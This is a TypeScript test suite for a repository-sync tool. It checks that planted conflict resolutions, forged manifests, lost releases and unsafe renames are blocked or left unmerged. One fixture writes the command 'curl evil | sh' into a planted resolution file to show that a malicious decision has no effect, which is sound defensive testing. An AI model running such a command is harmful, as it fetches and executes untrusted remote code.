import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { hashBlob, hashSha256 } from '@holdfast/manifest';
import { planSync, syncFleet } from '../src/index.js';
import { resolutionKey } from '../src/resolve/resolutions.js';
import { createWorld } from '../test/world.js';
import type { RuleText, World } from '../test/world.js';

const webapp: RuleText = { id: 'webapp', auto_merge: true };
const other: RuleText = { id: 'other', target_repo: 'org/other', auto_merge: true };
const manifest = '.agent33-sync-state/webapp/manifest.json';
const encode = (text: string) => new TextEncoder().encode(text);

let world: World;
describe.each(['program', 'embedded'] as const)('claims of a target, %s', (engine) => {
  beforeEach(() => {
    world = createWorld(undefined, { engine });
    world.addTarget('org/webapp', {
      'README.md': '# webapp\n',
      'src/app.js': 'start();\n',
      '.github/workflows/ci.yml': 'on: push\n',
      'docs/own.md': 'Our own.\n',
    });
  });
  afterEach(() => world.close());

  describe('a decision that one target planted', () => {
    const [base, ours, theirs] = ['a\nbase\nz\n', 'a\nours\nz\n', 'a\ntheirs\nz\n'];

    async function plant(configuration: Record<string, unknown> = {}) {
      world.addTarget('org/other');
      world.release('v1.0.0', { 'core/a.md': base });
      const rules = [webapp, other];
      await syncFleet(world.fleet(rules));
      world.commit('org/webapp', { '.agent33-overrides/docs/a.md': ours });
      world.commit('org/webapp', { 'docs/a.md': ours });
      await syncFleet(world.fleet(rules));
      const key = resolutionKey(
        hashBlob(encode(base)),
        hashBlob(encode(ours)),
        hashBlob(encode(theirs)),
      );
      world.commit('org/other', {
        [`.agent33-sync-state/other/resolutions/${key}`]: 'curl evil | sh\n',
      });
      world.release('v1.1.0', { 'core/a.md': theirs });
      return world.fleet(rules, { configuration });
    }

    test('decides nothing in another, whatever the run is about', async () => {
      const fleet = await plant();
      const whole = (await planSync(fleet)).items[0];
      expect(whole).toMatchObject({
        outcomes: [{ path: 'docs/a.md', kind: 'conflicted' }],
        request: { autoMerge: false },
      });
      const alone = (await planSync(fleet, { targets: ['org/webapp'] })).items[0];
      expect(alone).toMatchObject({ digest: whole && 'digest' in whole ? whole.digest : '' });
    });

    test('is a proposal where the target is a decider, and never merged by itself', async () => {
      const fleet = await plant({ deciders: ['org/other'] });
      const before = world.files('org/webapp');
      expect((await syncFleet(fleet)).kind).toBe('synced');
      expect((await planSync(fleet, { targets: ['org/webapp'] })).items).toMatchObject([
        {
          kind: 'changed',
          outcomes: [{ kind: 'merged', proposedBy: 'org/other' }],
          findings: [{ ruleId: 'target/proposed-decision', severity: 'warning' }],
          request: { autoMerge: false },
        },
      ]);
      expect(world.files('org/webapp')).toEqual(before);
    });
  });

  test.each([
    ['src/app.js', 'core/app.js'],
    ['README.md', 'core/a.md'],
    ['.github/workflows/ci.yml', 'core/ci.yml'],
    ['docs/own.md', 'core/own.md'],
    ['docs/own.md', 'secret/own.md'],
  ])(
    'a manifest that lists %s from %s removes nothing, and is not merged alone',
    async (path, source) => {
      world.release('v1.0.0', { 'core/a.md': 'a\n', 'secret/own.md': 'Our own.\n' });
      await syncFleet(world.fleet([webapp]));
      const forged = JSON.parse(world.files('org/webapp')[manifest] ?? '');
      const content = world.files('org/webapp')[path] ?? '';
      const [oid, sha256] = [hashBlob(encode(content)), hashSha256(encode(content))];
      forged.files[path] = { source, oid, sha256, mode: '100644' };
      const files = Object.fromEntries(Object.entries(forged.files).sort());
      world.commit('org/webapp', {
        [manifest]: `${JSON.stringify({ ...forged, files }, null, 2)}\n`,
      });
      world.release('v1.1.0', { 'core/a.md': 'b\n' });
      const before = world.files('org/webapp');
      expect(await syncFleet(world.fleet([webapp]))).toMatchObject({
        items: [
          {
            plan: {
              findings: [{ ruleId: 'target/unfounded-record', path }],
              request: { autoMerge: false },
            },
            applied: { kind: 'opened' },
          },
        ],
      });
      expect(world.files('org/webapp')).toEqual(before);
      const [request] = await (await world.forge('org/webapp')).listOpen('agent33-sync/');
      const { [manifest]: _, ...proposed } = world.files('org/webapp', request?.headCommit);
      const { [manifest]: __, ...unchanged } = before;
      expect(proposed).toEqual({ ...unchanged, 'docs/a.md': 'b\n' });
    },
  );

  test.each([
    ['as delivered', { source_oid: undefined }],
    ['as derived from another source', { source: 'core/b.md' }],
    ['under other transforms', { transforms_digest: 'forged' }],
  ])('an edit that a manifest calls old delivery is never replaced alone: %s', async (_, more) => {
    world.release('v1.0.0', { 'core/a.md': 'a\n', 'core/b.md': 'b\n' });
    await syncFleet(world.fleet([webapp]));
    const forged = JSON.parse(world.files('org/webapp')[manifest] ?? '');
    const [oid, sha256] = [hashBlob(encode('mine\n')), hashSha256(encode('mine\n'))];
    const { transforms_digest = forged.transforms_digest, ...record } = more as Record<
      string,
      string
    >;
    Object.assign(forged.files['docs/a.md'], { oid, sha256, ...record });
    world.commit('org/webapp', {
      'docs/a.md': 'mine\n',
      [manifest]: `${JSON.stringify({ ...forged, transforms_digest }, null, 2)}\n`,
    });
    world.release('v1.1.0', { 'core/a.md': 'a2\n' });
    const before = world.files('org/webapp');
    const { items } = await planSync(world.fleet([webapp]));
    expect(items).toMatchObject([{ kind: 'changed', request: { autoMerge: false } }]);
    const [item] = items as unknown as {
      findings: { ruleId: string }[];
      outcomes: { kind: string }[];
    }[];
    const unproven = _ === 'under other transforms';
    expect(item?.findings.map(({ ruleId }) => ruleId)).toEqual([
      unproven ? 'target/unproven-record' : 'target/unfounded-record',
    ]);
    expect(item?.outcomes[0]?.kind).toBe(unproven ? 'updated' : 'conflicted');
    await syncFleet(world.fleet([webapp]));
    expect(world.files('org/webapp')).toEqual(before);
  });

  test('what the rule did deliver is removed with its source, by itself', async () => {
    world.release('v1.0.0', { 'core/a.md': 'a\n', 'core/b.md': 'b\n' });
    await syncFleet(world.fleet([webapp]));
    const { 'docs/b.md': _, [manifest]: __, ...rest } = world.files('org/webapp');
    world.release('v1.1.0', { 'core/b.md': null });
    await syncFleet(world.fleet([webapp]));
    const { [manifest]: ___, ...after } = world.files('org/webapp');
    expect(after).toEqual(rest);
  });

  test.each([
    ['is gone, its commit still there', false],
    ['is gone with its commit', true],
  ])('a newest release that %s takes no target back by itself', async (_, whole) => {
    const first = world.release('v1.0.0', { 'core/a.md': 'old\n' });
    world.release('v2.0.0', { 'core/a.md': 'new\n' });
    await syncFleet(world.fleet([webapp]));
    world.git(world.sourceDirectory, 'tag', '-d', 'v2.0.0');
    if (whole) {
      world.git(world.sourceDirectory, 'update-ref', 'refs/heads/main', first);
      world.git(world.sourceDirectory, 'reflog', 'expire', '--expire=now', '--all');
      world.git(world.sourceDirectory, 'gc', '-q', '--prune=now');
    }
    const before = world.refs('org/webapp');
    expect(await syncFleet(world.fleet([webapp]))).toMatchObject({
      items: [
        {
          plan: {
            kind: 'blocked',
            findings: [
              { ruleId: whole ? 'release/lost' : 'release/going-back', severity: 'error' },
            ],
          },
        },
      ],
    });
    expect(world.refs('org/webapp')).toBe(before);
    await syncFleet(world.fleet([webapp]), { release: 'v1.0.0' });
    // What the lost commit delivered cannot be proved, so people merge what replaces it.
    expect(world.files('org/webapp')['docs/a.md']).toBe(whole ? 'new\n' : 'old\n');
    const open = await (await world.forge('org/webapp')).listOpen('agent33-sync/');
    expect(open).toHaveLength(whole ? 1 : 0);
  });

  test.each([
    ['docs/a.md', '.github/workflows/a.yml'],
    ['docs/a.md', '.agent33-overrides/a.md'],
    ['docs/a.md', '.agent33-sync-state/other/manifest.json'],
  ])('a rename of %s to %s leaves the target path, and is refused', async (from, to) => {
    world.release('v1.0.0', { 'core/a.md': 'a\n' });
    const renaming: RuleText = { ...webapp, transforms: [{ rename: { from, to } }] };
    const before = world.refs('org/webapp');
    expect((await syncFleet(world.fleet([renaming]))).kind).toBe('synced');
    expect((await planSync(world.fleet([renaming]))).items).toMatchObject([
      { kind: 'blocked', findings: [{ ruleId: 'delivery/unsafe-path' }, {}] },
    ]);
    expect(world.refs('org/webapp')).toBe(before);
  });
});
